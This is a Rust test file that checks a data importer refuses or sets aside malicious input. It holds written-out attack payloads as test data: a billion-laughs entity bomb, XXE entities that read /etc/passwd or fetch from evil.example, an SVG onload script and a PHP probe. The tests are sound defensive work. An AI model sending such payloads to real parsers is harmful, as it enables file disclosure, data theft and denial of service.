//! Single malicious files: refused, or set aside with a reason and a place, or read as the plain text that they are.

use mandate_atlas::{
    geo::Shapes,
    io::{self, list::Draft},
    model::{Expected, Found, Issue, Place},
};
use serde_json::{Value, json};

use super::checks::{self, merged, read_list};

#[track_caller]
fn read(bytes: &[u8]) -> Draft {
    checks::list(bytes);
    read_list(bytes).expect("it can be read")
}

#[track_caller]
fn refused(bytes: &[u8]) -> Issue {
    let mut issues = read_list(bytes).expect_err("it is refused");
    assert_eq!(issues.len(), 1);
    issues.remove(0)
}

fn titles(draft: &Draft) -> Vec<&str> {
    draft.rows.iter().map(|row| row.title.en.as_str()).collect()
}

/// Line, what was found and what was expected, of each row set aside.
fn aside(draft: &Draft) -> Vec<(usize, &Found, &Expected)> {
    let rows = draft.aside.rows.iter();
    rows.map(|row| (row.line, &row.issues[0].found, &row.issues[0].expected)).collect()
}

/// The small report with another value somewhere.
fn with(changes: &[(&str, Value)]) -> String {
    let mut file: Value = serde_json::from_str(include_str!("../../fixtures/small.json")).expect("JSON");
    for (pointer, value) in changes {
        let (around, key) = pointer.rsplit_once('/').expect("a pointer");
        match file.pointer_mut(around).expect("a place") {
            Value::Array(list) => list[key.parse::<usize>().expect("an index")] = value.clone(),
            around => around[key] = value.clone(),
        }
    }
    file.to_string()
}

/// Pointer, what was found and what was expected, of every issue of a report.
fn issues(text: &str) -> Vec<(String, Found, Expected)> {
    checks::dataset(text);
    checks::list(text.as_bytes());
    let issues = io::read(text).map_or_else(|issues| issues, |reading| reading.issues);
    issues.into_iter().map(|issue| (issue.place.to_string(), issue.found, issue.expected)).collect()
}

const ACTIVITY: &str = "<iati-activity><title><narrative>Sound</narrative></title></iati-activity>";

#[test]
fn entities_are_neither_expanded_nor_fetched() {
    let laughs: String =
        (1..10).map(|at| format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10))).collect();
    let kinds = [
        format!("<!DOCTYPE a [<!ENTITY l0 \"ha\">{laughs}]>"),
        "<!DOCTYPE a [<!ENTITY l9 SYSTEM \"file:///etc/passwd\">]>".to_owned(),
        "<!DOCTYPE a [<!ENTITY l9 SYSTEM \"https://evil.example/x\">]>".to_owned(),
        "<!DOCTYPE a SYSTEM \"https://evil.example/x.dtd\" [<!ENTITY % p SYSTEM \"https://evil.example/\">%p;]>".to_owned(),
    ];
    for kind in kinds {
        let text = format!(
            "<?xml version=\"1.0\"?>\n{kind}\n<iati-activities>\n\
             <iati-activity><title><narrative>&l9;</narrative></title></iati-activity>\n\
             <iati-activity><title><narrative title=\"&l9;\">a</narrative></title></iati-activity>\n{ACTIVITY}</iati-activities>"
        );
        let draft = read(text.as_bytes());
        assert_eq!(titles(&draft), ["Sound"]);
        let found = aside(&draft);
        assert_eq!(found.iter().map(|(line, ..)| *line).collect::<Vec<_>>(), [4, 5]);
        assert_eq!(*found[0].1, Found::Value("&l9;".to_owned()));
        assert!(found.iter().all(|(.., expected)| **expected == Expected::Xml));
    }
}

#[test]
fn letters_that_xml_has_no_room_for_set_an_activity_aside() {
    for name in ["&#xd800;", "&#x110000;", "&#0;", "&#;", "&nbsp;", "& ", "&"] {
        let text = format!(
            "{ACTIVITY}\n<iati-activity><title><narrative>a{name}b</narrative></title></iati-activity>"
        );
        let draft = read(format!("<iati-activities>{text}</iati-activities>").as_bytes());
        assert_eq!(titles(&draft), ["Sound"], "{name}");
        assert_eq!(aside(&draft).iter().map(|(line, ..)| *line).collect::<Vec<_>>(), [2], "{name}");
    }
}

#[test]
fn bytes_that_are_no_text_are_read_as_an_old_spreadsheet_or_refused() {
    let draft = read(b"Title,When\nCaf\xe9 \xff\xfe,2011\n");
    assert_eq!(titles(&draft), ["Café ÿþ"]);
    // Text in 16 bits a letter, programs, pictures: whatever begins with zeros.
    for bytes in
        [&b"\xff\xfeT\0i\0t\0l\0e\0,\0W\0"[..], b"\0asm\x01\0\0\0", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", b"\0"]
    {
        let issue = refused(bytes);
        assert_eq!(
            (issue.place, issue.found, issue.expected),
            (Place::Pointer(String::new()), Found::Unreadable, Expected::List)
        );
    }
    assert_eq!(refused(b"PK\x03\x04").found, Found::Workbook);
    assert_eq!(refused(b"").found, Found::End);
    assert_eq!(refused(b"\xef\xbb\xbf \n").found, Found::End);
    // Far behind, a zero is a letter like any other that cannot be seen.
    let late = format!("Title,When\n{}a\0b,2011\n", "\"x\",2011\n".repeat(1000));
    assert_eq!(read(late.as_bytes()).rows.len(), 1001);
}

#[test]
fn half_of_a_letter_is_no_json() {
    for half in ["\\ud800", "\\udc00\\ud800", "\\ud800x"] {
        let text = with(&[]).replacen("Seminar", half, 1);
        let found = issues(&text);
        assert!(
            matches!(&found[..], [(place, Found::NotJson, Expected::Json)] if place.starts_with("1:")),
            "{found:?}"
        );
    }
    assert_eq!(issues(&with(&[]).replacen("Seminar", "\\ud83d\\ude00", 1)), []);
    assert_eq!(issues(&with(&[]).replacen("Seminar", "\u{1}", 1)).len(), 1, "a control character is no JSON");
}

#[test]
fn marks_that_turn_or_hide_text_stay_what_they_are() {
    for mark in ["\u{202e}", "\u{200f}", "\u{2066}", "\u{feff}", "\u{200b}", "\0"] {
        let title = format!("Port{mark}security");
        let text = format!("Title,When,Lead,Countries\n{title},2011,Po{mark}lice,Barba{mark}dos\n");
        let draft = read_list(&[b"\xef\xbb\xbf".as_slice(), text.as_bytes()].concat());
        // Where a zero stands near the beginning it is no list at all.
        let Ok(draft) = draft else {
            assert_eq!(mark, "\0");
            continue;
        };
        // What turns the letters behind it ends where the text ends, so that it turns no word of the page.
        let end = match mark {
            "\u{202e}" => "\u{202c}",
            "\u{2066}" => "\u{2069}",
            _ => "",
        };
        assert_eq!(titles(&draft), [title + end]);
        // What looks like a name that is known and is not is an entry of its own, and never the one that it imitates.
        let merged = merged(&draft);
        let row = merged.dataset.activities.iter().last().expect("a row").1;
        let country = &merged.dataset.countries[row.countries[0].country];
        assert_eq!(
            (country.code.as_str(), country.name.en.as_str()),
            ("XAA", format!("Barba{mark}dos{end}").as_str())
        );
        checks::list(text.as_bytes());
    }
}

#[test]
fn codes_that_come_twice_are_set_aside_or_numbered() {
    let twice = with(&[("/activities/1/id", json!("seminar"))]);
    let found = issues(&twice);
    assert_eq!(
        found[0],
        ("/activities/1/id".to_owned(), Found::Value("\"seminar\"".to_owned()), Expected::UniqueCode)
    );
    let draft = read(b"ID,Title,When\nx,One,2011\nx,Two,2011\nseminar,Three,2011\n");
    let merged = merged(&draft);
    let codes: Vec<&str> =
        merged.dataset.activities.iter().skip(4).map(|(_, row)| row.code.as_str()).collect();
    assert_eq!(codes, ["x", "list-x", "list-seminar"]);
    let renamed: Vec<_> = merged.renamed.iter().map(|one| (one.line, one.code.as_str())).collect();
    assert_eq!(renamed, [(3, "list-x"), (4, "list-seminar")]);
}

#[test]
fn circles_are_left_out_and_their_rows_stay() {
    let circle = with(&[
        ("/activities/1/part_of", json!("seminar")),
        ("/activities/2/part_of", json!("course")),
        ("/activities/3/part_of", json!("nothing")),
        ("/organisations/1/parent", json!("unit")),
    ]);
    let found = issues(&circle);
    let places: Vec<(&str, &Expected)> =
        found.iter().map(|(place, _, expected)| (place.as_str(), expected)).collect();
    assert_eq!(
        places,
        [
            ("/organisations/0/parent", &Expected::NoCycle),
            ("/organisations/1/parent", &Expected::NoCycle),
            ("/activities/3/part_of", &Expected::RowOf("activities")),
            ("/activities/0/part_of", &Expected::NoCycle),
            ("/activities/1/part_of", &Expected::NoCycle),
            ("/activities/2/part_of", &Expected::NoCycle),
        ]
    );
    let reading = io::read(&circle).expect("it can be read");
    assert_eq!((reading.dataset.activities.len(), reading.set_aside), (4, 0));
    // As a list of one's own: no row is told to be set aside that is there.
    let draft = read(circle.as_bytes());
    assert_eq!((draft.rows.len(), draft.aside.rows.len(), draft.issues.len()), (4, 0, 6));
    let sheet = read(b"ID,Title,When,Part of\na,A,2011,b\nb,B,2011,c\nc,C,2011,a\nd,D,2011,d\n");
    let merged = merged(&sheet);
    let places: Vec<_> = merged.issues.iter().map(|issue| (&issue.place, &issue.expected)).collect();
    let at = |line| Place::Cell(line, "part_of".to_owned());
    assert_eq!(places, [(&at(4), &Expected::NoCycle), (&at(5), &Expected::NoCycle)]);
}

#[test]
fn rows_of_our_own_format_keep_their_place_behind_one_that_is_set_aside() {
    let draft = read(
        with(&[("/activities/0/kind", json!("magic")), ("/ledger", json!([])), ("/headcounts", json!([]))])
            .as_bytes(),
    );
    assert_eq!(draft.aside.rows.iter().map(|row| row.line).collect::<Vec<_>>(), [1]);
    assert_eq!(draft.rows.iter().map(|row| row.line).collect::<Vec<_>>(), [2, 3, 4]);
}

#[test]
fn dates_that_cannot_be_are_not_read_and_their_rows_stay() {
    let dates = [
        "-2011",
        "−44",
        "0000",
        "1066",
        "9999",
        "99999",
        "2011-00",
        "2011-13",
        "2011-02-30T",
        "32/01/2011",
        "13/13/2011",
        "2012/2011",
        "2011-02/2011-01",
        "31/12/9999",
        "4294967297",
        "-9223372036854775808",
        "1e999",
        "NaN",
        "٢٠١١",
        "20111-20112",
        "2011-2012-2013",
        "1/1/1/1/2011",
        "0/0/0",
    ];
    for date in dates {
        let text = format!("Title,When\na,{date}\n");
        let draft = read(text.as_bytes());
        assert_eq!((draft.rows.len(), draft.rows[0].period), (1, None), "{date}");
        let place = Place::Cell(2, "When".to_owned());
        assert_eq!(draft.issues.iter().map(|issue| &issue.place).collect::<Vec<_>>(), [&place], "{date}");
        checks::date(date);
    }
    for date in ["-2011", "2011-13", "99999", "2012/2011", "2011-02-14", "٢٠١١", ""] {
        let found = issues(&with(&[("/activities/2/period", json!(date))]));
        assert_eq!((found[0].0.as_str(), &found[0].2), ("/activities/2/period", &Expected::Period), "{date}");
    }
    // The ends of time are read, and the picture of them is drawn.
    for date in ["0000", "9999-12", "0000/9999", "0000-01/.."] {
        assert_eq!(issues(&with(&[("/activities/2/period", json!(date))])), [], "{date}");
    }
}

#[test]
fn numbers_that_cannot_be_are_told() {
    for count in [json!(-1), json!(0), json!(4_294_967_296_u64), json!(1.5), json!(1e300)] {
        let found = issues(&with(&[("/headcounts/0/count", count.clone())]));
        assert_eq!(found[0].0, "/headcounts/0/count", "{count}");
    }
    assert_eq!(issues(&with(&[]).replacen("30", "1e999", 1))[0].2, Expected::Json);
    for people in ["-5", "99999999999999999999", "20000001", "50%", "1e9"] {
        let draft = read(format!("Title,When,Participants\na,2011,{people}\n").as_bytes());
        assert_eq!((draft.rows.len(), draft.issues.len()), (1, 1), "{people}");
    }
    for degrees in [json!(91), json!(-90.5), json!(1e300)] {
        let found = issues(&with(&[("/countries/0/capital/lat", degrees)]));
        assert_eq!(found[0].0, "/countries/0/capital/lat");
    }
}

#[test]
fn files_that_only_look_like_ours_are_refused_with_their_place() {
    for (text, place) in [
        ("[]", "/"),
        ("{}", "/format"),
        ("{\"format\":\"mandate-atlas/2\"}", "/format"),
        ("{\"format\":", "1:10"),
        ("null", "/"),
    ] {
        let found = issues(text);
        assert_eq!((found.len(), found[0].0.as_str()), (1, place), "{text}");
    }
    // Where a key stands twice the last one counts, as in browsers.
    assert_eq!(issues(&with(&[]).replacen('{', "{\"format\":\"other\",", 1)), []);
    for html in ["<!DOCTYPE html><title>404</title>", "<svg onload=\"alert(1)\"/>", "<?php phpinfo();"] {
        assert_eq!(refused(html.as_bytes()).expected, Expected::List);
    }
}

#[test]
fn shapes_that_cannot_be_drawn_are_set_aside_with_their_place() {
    let feature = |geometry: Value| {
        let file = json!({"type": "FeatureCollection", "features": [
            {"type": "Feature", "id": "BRB", "properties": {"layer": "country", "anchor": [0, 0]}, "geometry": geometry}
        ]});
        checks::shapes(&file.to_string());
        Shapes::read(&file.to_string()).expect("a collection")
    };
    let ring = |at: f64| json!({"type": "Polygon", "coordinates": [[[0, 0], [at, 0], [0, 1], [0, 0]]]});
    assert_eq!(feature(ring(1.0)).faults, []);
    let nested = (0..60).fold(json!([]), |inner, _| json!([inner]));
    for geometry in [
        ring(180.5),
        ring(-1e300),
        json!({"type": "Polygon", "coordinates": nested}),
        json!(null),
        json!({"type": "Polygon", "coordinates": []}),
    ] {
        let shapes = feature(geometry.clone());
        assert_eq!((shapes.countries.len(), shapes.faults.len()), (0, 1), "{geometry}");
        assert!(shapes.faults[0].place.starts_with("/features/0"));
    }
    let deep = "[".repeat(10_000);
    assert!(Shapes::read(&format!("{{\"type\":\"FeatureCollection\",\"features\":{deep}")).is_err());
}
